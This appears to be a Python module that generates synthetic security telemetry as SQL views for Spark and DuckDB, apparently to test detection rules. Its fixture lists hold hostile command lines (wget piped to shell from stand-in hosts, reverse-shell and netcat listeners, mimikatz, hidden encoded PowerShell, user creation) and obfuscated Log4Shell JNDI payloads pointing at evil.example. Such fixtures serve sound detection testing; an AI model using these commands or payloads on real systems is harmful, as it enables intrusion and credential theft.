"""Security-entity views over the given tables, as SQL that Spark and DuckDB both run.

Every view is a row-by-row projection (or a grouping) of whole tables, so it grows with
them.  Three macros hide the differences of the two dialects.
"""

from __future__ import annotations

import re

from pyspark.sql import DataFrame, SparkSession

TABLES = (
    "region nation customer supplier part orders lineitem events documents embeddings "
    "pages benchmark labels conversations"
).split()

_SPARK = {
    "ISO": "date_format({0}, 'yyyy-MM-dd') || 'T' || date_format({0}, 'HH:mm:ss.SSS') || 'Z'",
    "B64": "translate(base64({0}), chr(13) || chr(10), '')",
    "U16": "translate(base64(encode({0}, 'UTF-16LE')), chr(13) || chr(10), '')",
}
_DUCKDB = {
    "ISO": "strftime({0}, '%Y-%m-%dT%H:%M:%S.%gZ')",
    "B64": "to_base64(encode({0}))",
    "U16": r"to_base64(from_hex(regexp_replace(hex({0}), '(..)', '\100', 'g')))",
}


def lit(text: str) -> str:
    """A text constant that both parsers read the same way."""
    pieces = [p for p in re.split(r"(\\|'|\n|\$(?=\{))", text) if p]
    special = {"\\": "chr(92)", "'": "chr(39)", "\n": "chr(10)"}
    out = [special.get(p, f"'{p}'") for p in pieces] or ["''"]
    return out[0] if len(out) == 1 else "(" + " || ".join(out) + ")"


def case(number: str, values: list[str | None], otherwise: str = "null") -> str:
    """CASE over number = 0, 1, ..; values are SQL expressions, None leaves a NULL."""
    rows = [f"when {i} then {v}" for i, v in enumerate(values) if v is not None]
    return f"case {number} {' '.join(rows)} else {otherwise} end"


USER = "cast(user_id as string)"
EVENT = "cast(event_id as string)"

# 47 command lines: every glob and every rule is hit by some, the rest are harmless.
COMMANDS: list[str | None] = [
    f"'wget -q - http://h' || {USER} || '.example/x | perl'",
    f"'wget -q - http://h' || {USER} || '.example/x | sh'",
    f"'wget -q - http://h' || {USER} || '.example/x | bash'",
    lit("python -m SimpleHTTPServer"),
    lit("python3 -m http.server"),
    lit("import pty; pty.spawn('/bin/sh')"),
    f"'socat exec:' || {USER}",
    lit("socat -O /tmp/out"),
    lit("socat tcp-connect:10.0.0.1:80"),
    f"'echo binary >> f' || {USER}",
    f"'wget http://a/' || {USER} || '; chmod +x a'",
    lit("wget http://a; chmod 777 a"),
    lit("cd /tmp || cd /var/run || cd /mnt; ls"),
    lit("service x stop;service iptables stop;"),
    lit("service x stop;SuSEfirewall2 stop;"),
    lit("chmod 777 2020-10"),
    lit("echo x >>/etc/rc.local"),
    lit("base64 -d /tmp/a"),
    lit("cat a | base64 -d -i"),
    lit("/bin/chmod u+s /x"),
    lit("chmod +s /tmp/a"),
    lit("chmod u+s /tmp/a"),
    lit("run /tmp/haxhax1"),
    lit("run /tmp/ns_sploit1"),
    lit("nc -l -p 4444"),
    lit("cp /bin/ksh /tmp/k"),
    lit("cp /bin/sh /tmp/k"),
    lit("cat /tmp/a.b64 -x"),
    lit("java -jar /tmp/ysocereal.jar"),
    lit("sh /tmp/x a"),
    lit("ls; chmod +x /tmp/a"),
    lit("ls;chmod +x /tmp/a"),
    lit("tweet now"),
    lit("mimikatz sekurlsa::logonpasswords"),
    f"'powershell.exe -NoP -Enc ' || @U16('Get-Item ' || {USER})",
    lit("powershell.exe -Version 2 -command 'Get-Process'"),
    lit("net use z: \\\\srv\\share"),
    f"'net user u' || {USER} || ' /add'",
    lit("net group admins"),
    lit("net localgroup admins"),
    lit("whoami /all"),
    lit("ls -la"),
    f"'vim notes' || {EVENT} || '.txt'",
    lit("100% done_"),
    None,
    lit(""),
    lit("python3 -m http.server extra"),
]
BINARIES = ["powershell.exe", "cmd.exe", "sethc.exe", "node", "bash", "explorer.exe", "svchost.exe"]
PARENTS = [
    "osk.exe", "Magnify.exe", "Narrator.exe", "DisplaySwitch.exe", "AtBroker.exe", "WINWORD.EXE",
    "EXCEL.EXE", "POWERPNT.EXE", "MSACCESS.EXE", "OUTLOOK.EXE", "VISIO.EXE", "node", "explorer.exe",
    "services.exe",
]
FOLDERS = [
    "C:\\", "C:\\Users\\alice1\\AppData\\Local\\Temp", "C:\\Windows\\TEMP", "C:\\Windows\\System32",
    "/usr/bin",
]
SCRIPTS: list[str | None] = [
    f"'powershell.exe -NoP -NonI -W Hidden -Exec Bypass -Enc ' || @U16('Write-Output \"Try Harder ' || {USER} || '\" ')",
    f"'powershell -enc ' || @U16('If(1){{Get-Item ' || {USER} || ';Stop-Job}}Exit')",
    f"'powershell -EncodedCommand ' || @U16('$A=[CHAR]65' || ' ;  $B=2')",
    f"'powershell -Command ' || chr(39) || 'Get-Item C' || {USER} || ' | Out-Null' || chr(39)",
    "'powershell -command ' || chr(39) || 'if($x){foreach($y in $z){Write-Host `\"H`ello\"};Stop}' || chr(39)",
    "'powershell -Command ' || chr(39) || '$a.\"Get`Field\"(\"Pl`ain\")' || chr(39)",
    "'powershell -Command ' || chr(39) || '$t = [convert]::frombase64string(' || chr(39) || @U16('Secret') || chr(39) || ');Run' || chr(39)",
    "'powershell -enc abc'",
    "'powershell -encoding utf8'",
    "'powershell.exe -File run.ps1'",
    f"'powershell -Command ' || chr(39) || 'x' || chr(39) || ' + ' || chr(39) || 'y' || {USER} || chr(39)",
    None,
    "''",
    "'powershell -enc ' || chr(39) || @U16('echo [char]72[char]73') || chr(39)",
]
JNDI = "'//h' || cast(k % 20 as string) || '.evil.example:1389/a'"
EXPLOITS: list[str | None] = [
    f"'$' || '{{jndi:ldap:' || {JNDI} || '}}'".replace("{{", "{").replace("}}", "}"),
    "'$' || '{$' || '{::-j}$' || '{::-n}$' || '{::-d}$' || '{::-i}:$' || '{lower:L}dap:' || "
    f"{JNDI} || '}}'",
    "'$' || '{jNdi:$' || '{lower:L}$' || '{lower:d}a$' || '{lower:p}:' || " f"{JNDI} || '/$' || '{{upper:a}}?q=1}}'",
    f"'%24%7Bjndi%3Aldap:' || {JNDI} || '%7D'",
    f"'%2524%257Bjndi:ldap:' || {JNDI} || '%257D'",
    f"'%252524%25257Bjndi:dns:' || {JNDI} || '%25257D'",
    "'$' || '{$' || '{::-$' || '{::-$$' || '{::-j}}}ndi:ldap:' || " f"{JNDI} || '}}'",
    "'$' || '{$' || '{base64:am5kaTo=}ldap:' || " f"{JNDI} || '}}'",
    "'$' || '{env:HOME:-/root}'",
    "'$' || '{broken:thing'",
    "'$' || '{}'",
    "'$' || '{jndi:ldap:' || " f"{JNDI} || '/$' || '{{sys:java.version}}}}'".replace("{{", "{").replace("}}}}", "}}").replace("}}", "}}"),
    f"'Error looking up JNDI resource [ldap:' || {JNDI} || '].'",
    "'a+b%zz100%'",
    None,
    "'$' || '{jndi:ldap://127.0.0.1#' || substr(" f"{JNDI}" ", 3) || '}'",
    "'$' || '{bad!chars}'",
    "'$' || '{$' || '{a:b:-j}$' || '{c:-ndi:}rmi:' || " f"{JNDI} || '}}'",
]

VIEWS: dict[str, str] = {}

VIEWS["v_connections"] = """
select event_id, ts, user_id, 'network-traffic' as type,
  'network-traffic--' || cast(event_id as string) as id,
  case when event_id % 11 = 0 then ip_b else ip_a end as src_ip,
  case when event_id % 11 = 0 then ip_a else ip_b end as dst_ip,
  cast(1024 + event_id % 50000 as int) as src_port,
  case event_id % 5 when 0 then 22 when 1 then 80 when 2 then 443 when 3 then 445 else 3389 end as dst_port,
  cast(floor(value * 100) as bigint) as src_byte_count,
  cast(floor(value * 37) as bigint) as dst_byte_count,
  @ISO(ts) as first_observed
from (select *,
  '10.0.' || cast(user_id % 7 as string) || '.' || cast(user_id % 250 + 1 as string) as ip_a,
  case event_id % 6
    when 0 then '10.1.' || cast(event_id % 31 as string) || '.' || cast(event_id % 200 + 1 as string)
    when 1 then '9.1.2.' || cast(event_id % 200 + 1 as string)
    when 2 then case when event_id % 4 = 2 then '9.59.150.142' else '192.168.1.' || cast(event_id % 9 as string) end
    when 3 then '172.16.0.' || cast(event_id % 200 + 1 as string)
    when 4 then '45.' || cast(event_id % 256 as string) || '.' || cast(event_id % 97 as string) || '.' || cast(event_id % 200 + 1 as string)
    else '203.0.' || cast(event_id % 120 as string) || '.' || cast(event_id % 200 + 1 as string) end as ip_b
  from events) e
"""

VIEWS["v_addresses"] = """
select event_id, case event_id % 10
  when 0 then '2001:db8::' || cast(event_id % 9000 + 1 as string)
  when 1 then 'FE80::1:' || cast(event_id % 9000 + 1 as string) || '%eth0'
  when 2 then '2606:4700:0:0:0:0:' || cast(event_id % 9000 as string) || ':1111'
  when 3 then '::ffff:10.0.' || cast(event_id % 200 as string) || '.7'
  when 4 then '::ffff:8.8.' || cast(event_id % 200 as string) || '.8'
  when 5 then '2001:4:112::' || cast(event_id % 9000 + 1 as string)
  when 6 then 'fd00:1:2:3:4:5:6:' || cast(event_id % 9000 as string)
  when 7 then '1:2:3:4:5:6:7:8:9'
  when 8 then '2a00:1450:4001::' || cast(event_id % 9000 + 1 as string)
  else '10.2.' || cast(event_id % 200 as string) || '.1' end as ip
from events
"""

VIEWS["v_peers"] = "select dst_ip as ip, min(event_id) as n from v_connections group by dst_ip"

VIEWS["v_auth"] = """
select event_id, 'obs-' || cast(event_id as string) as id, @ISO(ts) as first_observed,
  'u' || cast(user_id as string) as user_id,
  'd' || cast(user_id % 3 as string) as domain,
  'h' || cast((user_id + event_id % 4) % 40 as string) as src_ip,
  'h' || cast(event_id % 60 as string) as dst_ip,
  case when event_id % 97 = 0 then 'malicious' when event_type = 'error' then 'unknown'
       when event_id % 501 = 7 then 'other' else 'benign' end as status
from events
"""

VIEWS["v_process"] = f"""
select event_id, 'process--' || cast(event_id as string) as id,
  case when event_id % 53 = 0 then 'windows-registry-key' else 'process' end as type,
  case when event_id % 106 = 0 then 'HKLM/x/BackgroundAccessApplications/y' end as key,
  cast(event_id % 30000 as int) as pid,
  {case("event_id % 47", COMMANDS)} as command_line,
  {case("event_id % 13", [lit(b) for b in BINARIES], "'app' || " + USER)} as binary_name,
  {case("event_id % 17", [lit(p) for p in PARENTS], "null")} as parent_name,
  {case("event_id % 7", [lit(f) for f in FOLDERS], "null")} as folder,
  case when event_id % 101 = 0 then null else 'g' || cast(user_id % 600 + 1000 * (event_id % 3) as string) end as x_guid,
  case when event_id % 499 = 3 then cast(floor(value * 1000) as bigint) else cast(floor(value) as bigint) end as x_opened_connection_count,
  'c' || cast(event_id % 37 as string) as connection_ref
from events
"""

VIEWS["v_script"] = f"""
select event_id, 'process--' || cast(event_id as string) as id, {case("event_id % 15", SCRIPTS)} as command_line
from events
"""

VIEWS["v_url"] = f"""
select page_id, 'url--' || cast(page_id as string) as id, 'url' as type,
  url || {case(f"k % {len(EXPLOITS) + 2}", EXPLOITS, "''").replace("else '' end", "else '/plain' end")} as value
from (select page_id, page_id as k, url from pages) p
"""

VIEWS["v_http"] = f"""
select event_id, 'http--' || cast(event_id as string) as id,
  'http://site' || cast(k % 7 as string) || '.example/' || coalesce({case("k % 29", EXPLOITS, "''")}, '') as url,
  'agent ' || coalesce({case("k % 31", EXPLOITS, "''")}, '') as user_agent
from (select event_id, event_id as k from events) e
"""

VIEWS["v_artifact"] = """
select page_id, id, 'artifact' as type,
  case when page_id % 29 = 5 then '!!not base64' else @B64(value) end as payload_bin
from v_url
"""

VIEWS["v_file"] = """
select p_partkey, 'file--' || cast(p_partkey as string) as id, 'file' as type,
  case when p_partkey % 3 = 0 then null else md5('m' || cast(p_partkey as string)) end as h_md5,
  case when p_partkey % 5 = 0 then null else md5('s' || cast(p_partkey as string)) end as h_sha1,
  case when p_partkey % 7 = 0 then null else md5('t' || cast(p_partkey as string)) end as h_sha256
from part
"""

VIEWS["v_geo_event"] = """
select s_suppkey, cast(s_nationkey * 5 - 60 as double) as lat, cast(s_suppkey % 360 - 180 as double) as lon,
  s_name as action, case when s_suppkey % 9 = 4 then null else s_nationkey end as outcome
from supplier
"""

VIEWS["v_geo_blocks"] = """
select cast(45 * 16777216 + n_nationkey * 655360 as bigint) as start_ip,
  cast(45 * 16777216 + n_nationkey * 655360 + power(2, 8 + n_nationkey % 12) - 1 as bigint) as end_ip,
  cast(n_nationkey as double) as latitude, cast(n_regionkey * 10 as double) as longitude from nation
union all
select cast(203 as bigint) * 16777216 + s_suppkey * 256, cast(203 as bigint) * 16777216 + s_suppkey * 256 + 127,
  cast(s_suppkey % 90 as double), cast(s_nationkey as double) from supplier
union all
select cast(10 as bigint) * 16777216, cast(11 as bigint) * 16777216 - 1, 40.5, -70.25 from region where r_regionkey = 0
union all
select cast(151060992 as bigint), cast(151061247 as bigint), 50.0, 8.5 from region where r_regionkey = 1
"""

# networks of both versions, three levels deep, with their ends; no level fills the one above
_N = "cast(n_nationkey as string)"
_K = "cast(1000 + s_suppkey % 60 as string)"
VIEWS["v_geo_networks"] = f"""
select '45.0.0.0/8' as network, 45 * 16777216 as low4, 46 * 16777216 - 1 as high4, cast(null as string) as low6, cast(null as string) as high6, 1.0 as latitude, 2.0 as longitude from region where r_regionkey = 0
union all
select '45.' || {_N} || '.0.0/16', 45 * 16777216 + n_nationkey * 65536, 45 * 16777216 + n_nationkey * 65536 + 65535, null, null, n_nationkey * 1.0, 10.0 from nation where n_nationkey % 4 <> 3
union all
select '45.' || {_N} || '.' || cast(4 * (n_nationkey % 10) as string) || '.0/22', 45 * 16777216 + n_nationkey * 65536 + 1024 * (n_nationkey % 10),
  45 * 16777216 + n_nationkey * 65536 + 1024 * (n_nationkey % 10) + 1023, null, null, n_nationkey * 1.0, 20.0 from nation
union all
select '45.' || {_N} || '.' || cast(4 * (n_nationkey % 10) + 1 as string) || '.129/25', 45 * 16777216 + n_nationkey * 65536 + 1024 * (n_nationkey % 10) + 384,
  45 * 16777216 + n_nationkey * 65536 + 1024 * (n_nationkey % 10) + 511, null, null, n_nationkey * 1.0, 30.0 from nation
union all
select '2001:DB8::/32', null, null, '620010db8' || repeat('0', 24), '620010db8' || repeat('f', 24), 3.0, 4.0 from region where r_regionkey = 1
union all
select distinct '2001:db8:' || substr({_K}, 1, 3) || '0::/44', cast(null as bigint), cast(null as bigint), '620010db8' || substr({_K}, 1, 3) || repeat('0', 21), '620010db8' || substr({_K}, 1, 3) || repeat('f', 21),
  floor((s_suppkey % 60) / 10) * 1.0, 40.0 from supplier where s_suppkey % 60 < 40
union all
select distinct '2001:db8:' || {_K} || '::/48', cast(null as bigint), cast(null as bigint), '620010db8' || {_K} || repeat('0', 20), '620010db8' || {_K} || repeat('f', 20), s_suppkey % 60 * 1.0, 50.0
  from supplier where s_suppkey % 60 % 3 <> 1
union all
select distinct '2001:db8:' || {_K} || '::2000/116', cast(null as bigint), cast(null as bigint), '620010db8' || {_K} || repeat('0', 16) || '2000', '620010db8' || {_K} || repeat('0', 16) || '2fff', s_suppkey % 60 * 1.0, 60.0
  from supplier
"""

_E = "cast(1000 + event_id % 70 as string)"
_F = "cast(1000 + event_id % 3000 as string)"
VIEWS["v_geo_points"] = f"""
select '45.' || cast(event_id % 27 as string) || '.' || cast(event_id % 43 as string) || '.' || cast(event_id % 256 as string) as ip,
  45 * 16777216 + event_id % 27 * 65536 + event_id % 43 * 256 + event_id % 256 as n4, cast(null as string) as k6 from events where event_id % 3 = 0
union all
select '2001:db8:' || {_E} || '::' || {_F}, null, '620010db8' || {_E} || repeat('0', 16) || {_F} from events where event_id % 3 = 1
union all
select '2001:DB8:' || {_E} || ':0:0:0:0:' || {_F}, null, '620010db8' || {_E} || repeat('0', 16) || {_F} from events where event_id % 30 = 2
union all
select '2001:db9::1', null, '620010db9' || repeat('0', 23) || '1' from region
"""

VIEWS["v_intel_ip"] = """
select ip, case n % 5
  when 0 then '{"ip": {"attacks": null, "ascountry": "US", "asname": "AS ' || cast(n as string) || '"}}'
  when 1 then '{"ip": {"attacks": ' || cast(n % 90 as string) || ', "asname": "net", "threatfeeds": {"blocklist": {"firstseen": "2024-01-'
     || cast(10 + n % 18 as string) || '", "lastseen": "2024-02-11"}, "miner' || cast(n % 3 as string) || '": {"firstseen": "2023-12-01", "lastseen": "2024-03-'
     || cast(10 + n % 20 as string) || '"}}}}'
  when 2 then '{"error": "rate limit"}'
  else '{"ip": {"attacks": ' || cast(n % 7 as string) || ', "ascountry": "DE", "threatfeeds": {"webiron": {"firstseen": "2022-05-05", "lastseen": "2022-05-06"}}}}' end as doc
from v_peers where n % 3 <> 1
"""

VIEWS["v_intel_indicator"] = """
select 'ipr' as endpoint, ip as observable, case n % 4
  when 0 then '{"cats": {"Scanning": 43, "Bots": 10}, "score": ' || cast(n % 10 as string) || '.5, "geo": {"country": "Italy"}, "history": [{"asns": {"1": {"Company": "Old"}}}, {"asns": {"7": {"removed": true, "Company": "Gone"}, "8": {"Company": ""}, "9": {"Company": "Net'
     || cast(n % 13 as string) || '"}}}]}'
  when 1 then '{"cats": {}, "score": 1, "geo": {}, "history": []}'
  when 2 then '{"cats": {"Spam": 1}, "score": 7, "geo": {"country": "Chad"}, "history": [{"asns": {"5": {"removed": true, "Company": "X"}}}]}'
  else '{"cats": {"Bots": 2}, "score": 2, "geo": {"country": "Peru"}}' end as doc
from v_peers where n % 3 <> 2
union all
select 'url', value, '{"result": {"cats": {"Phishing": true, "News": true}, "score": ' || cast(min(page_id) % 10 as string) || '}}'
from v_url where value is not null and page_id % 4 <> 1 group by value
union all
select 'malware', coalesce(h_md5, h_sha1, h_sha256), '{"malware": {"risk": "' || case when p_partkey % 2 = 0 then 'high' else 'low' end || '", "family": ["fam' || cast(p_partkey % 6 as string) || '"]}}'
from v_file where coalesce(h_md5, h_sha1, h_sha256) is not null and p_partkey % 4 <> 1
"""

VIEWS["v_entities"] = """
select 'ip-' || ip as id, case when n % 13 = 0 then 'ipv6-addr' else 'ipv4-addr' end as type, ip as value,
  cast(null as string) as h_md5, cast(null as string) as h_sha1, cast(null as string) as h_sha256 from v_peers
union all
select id, case when page_id % 5 = 0 then 'domain-name' else 'url' end, value, cast(null as string), cast(null as string), cast(null as string) from v_url
union all
select id, type, cast(null as string), h_md5, h_sha1, h_sha256 from v_file
union all
select 'process--' || cast(event_id as string), 'process', command_line, cast(null as string), cast(null as string), cast(null as string) from v_process
"""

VIEWS["v_ptr"] = """
select ip, case n % 4 when 0 then 'host' || cast(n as string) || '.example.net.' when 1 then 'a:b.example.org.' else 'ns.example.com' end as ptr
from v_peers where n % 3 <> 0
"""

VIEWS["v_organizations"] = """
select ip, case n % 3 when 0 then 'Example Org ' || cast(n % 50 as string) when 1 then 'Acme: Hosting' else 'Net Inc.' end as organization
from v_peers where n % 4 <> 0
"""

_WHOIS_LINES: list[str] = [
    "'% whois server'",
    "'NetName:   NET-' || cast(n as string)",
    "case when n % 3 = 0 then 'Registrant:' else 'Registrant: Acme ' || cast(n % 9 as string) || ' Ltd' end",
    "'  Wrapped Holder ' || cast(n % 9 as string)",
    "'Registrar: Example Registrar ' || cast(n % 4 as string) || '.  '",
    "case n % 3 when 0 then 'Country: United States' when 1 then 'country: de' else 'CountryCode: KOR' end",
    "'Creation Date: 2001-02-' || cast(10 + n % 18 as string) || 'T00:00:00Z'",
    "'Updated Date: 2003.04.05'",
    "'Creation Date: 1999-01-01'",
    "case when n % 2 = 0 then 'Domain servers in listed order:' else 'Name Server ........ NS9.EXAMPLE.COM' end",
    "'   NS1.Example' || cast(n % 5 as string) || '.com 10.0.0.1'",
    "case when n % 5 = 0 then '' else '   ns2.example.com' end",
    "''",
    "'   ns3.ignored.example.com'",
    "'Organization: Example Org ' || cast(n % 11 as string) || '.'",
    "'Registered on: 5-Mar-2004'",
    "'nserver: NS7.EXAMPLE.ORG'",
    "'[Querying whois.example.net]'",
    "case when n % 2 = 0 then 'Registrar:' else 'CIDR: 10.0.0.0/8' end",
    "'Joined Registrar'",
    "'Registrant:'",
    "'Registrar:'",
    "case when n % 2 = 0 then 'First registration date:' else 'Domain Name: x' || cast(n as string) || '.example' end",
    "case when n % 4 = 0 then 'Registrar:' else 'Expires on: 2030-01-01' end",
    "'Creation Date: 2002-02-02'",
]
VIEWS["v_whois_text"] = f"""
select ip, l as line_no, {case("l", _WHOIS_LINES)} as line
from (select ip, n, explode_line as l from (select ip, n, @EACH({len(_WHOIS_LINES)}) as explode_line from v_peers) x) y
"""
_SPARK["EACH"] = "explode(sequence(0, {0} - 1))"
_DUCKDB["EACH"] = "cast(unnest(range({0})) as int)"

DATES = [
    "'20' || lpad(cast(k % 30 as string), 2, '0') || '0415'",
    "'2003-04-' || cast(10 + k % 20 as string) || 'T00:00:00Z'",
    "'2003.04.05'",
    "'2003/ 4/05'",
    "'2003-4-05 x'",
    "cast(10 + k % 18 as string) || '-Mar-2004'",
    "'Mon, January ' || cast(1 + k % 28 as string) || ', 2005'",
    "cast(1 + k % 28 as string) || ' february 2006'",
    "'Tue Mar 7 10:11:12 GMT 2007'",
    "'Wed Apr 8 2008'",
    "'2009-May-' || cast(1 + k % 30 as string)",
    "'9-Jun-2010 #42'",
    "cast(1 + k % 28 as string) || '/' || cast(1 + k % 12 as string) || '/2011'",
    "'13/02/2012'",
    "'02/13/2012'",
    "'None'",
    "'null'",
    "'soon'",
    "'20551332'",
    "'2001-02-31'",
    "'3-Foo-2004'",
]
VIEWS["v_dates"] = f"""
select k as event_id, {case(f"k % {len(DATES)}", DATES)} as text from (select event_id as k from events) e
"""

VIEWS["v_dns"] = """
select 'h' || cast(page_id % 20 as string) || '.evil.example' as hostname,
  '198.51.100.' || cast(min(page_id) % 20 as string) as addr
from pages where page_id % 20 <> 7 group by page_id % 20
"""

VIEWS["v_mixed"] = "select p_partkey, p_brand, p_type, p_size, p_retailprice from part"
VIEWS["v_points"] = """
select c_custkey, c_acctbal / 100 as x, cast(c_nationkey as double) as y from customer
"""


def render(sql: str, dialect: str) -> str:
    """Expand the macros; arguments may hold balanced parentheses."""
    macros = _SPARK if dialect == "spark" else _DUCKDB
    while True:
        at = re.search(r"@([A-Z0-9]+)\(", sql)
        if not at:
            return sql
        depth, end = 1, at.end()
        while depth:
            depth += {"(": 1, ")": -1}.get(sql[end], 0)
            end += 1
        body = macros[at.group(1)].replace("{0}", sql[at.end() : end - 1])
        sql = sql[: at.start()] + body + sql[end:]


def _needed(sql: str, seen: list[str]) -> list[str]:
    for name in VIEWS:
        if name not in seen and re.search(rf"\b{name}\b", sql):
            _needed(VIEWS[name], seen)
            seen.append(name)
    return seen


def with_views(sql: str, dialect: str) -> str:
    """A query text with the views it reads as common table expressions."""
    body = sql.strip()
    head = re.match(r"with\s+(recursive\s+)?", body, re.I)
    names = _needed(body, [])
    ctes = [f"{n} as ({VIEWS[n].strip()})" for n in names]
    if head:
        body = body[head.end() :]
        prefix = ("with recursive " if head.group(1) else "with ") + "".join(x + ",\n" for x in ctes)
    else:
        prefix = "with " + ",\n".join(ctes) + "\n" if ctes else ""
    return render(prefix + body, dialect)


class Tables:
    """The given tables and the views over them for one folder."""

    def __init__(self, spark: SparkSession, folder: str):
        self.spark, self.folder = spark, folder

    def table(self, name: str) -> DataFrame:
        return self.spark.read.parquet(f"{self.folder}/{name}.parquet")

    def sql(self, text: str) -> DataFrame:
        full = with_views(text, "spark")
        for name in TABLES:
            if re.search(rf"\b{name}\b", full):
                self.table(name).createOrReplaceTempView(name)
        return self.spark.sql(full)

    def __call__(self, view: str, **names: str) -> DataFrame:
        """A view or table; keyword arguments give plain columns their entity names."""
        df = self.table(view) if view in TABLES else self.sql(f"select * from {view}")
        return df.withColumnsRenamed(names)
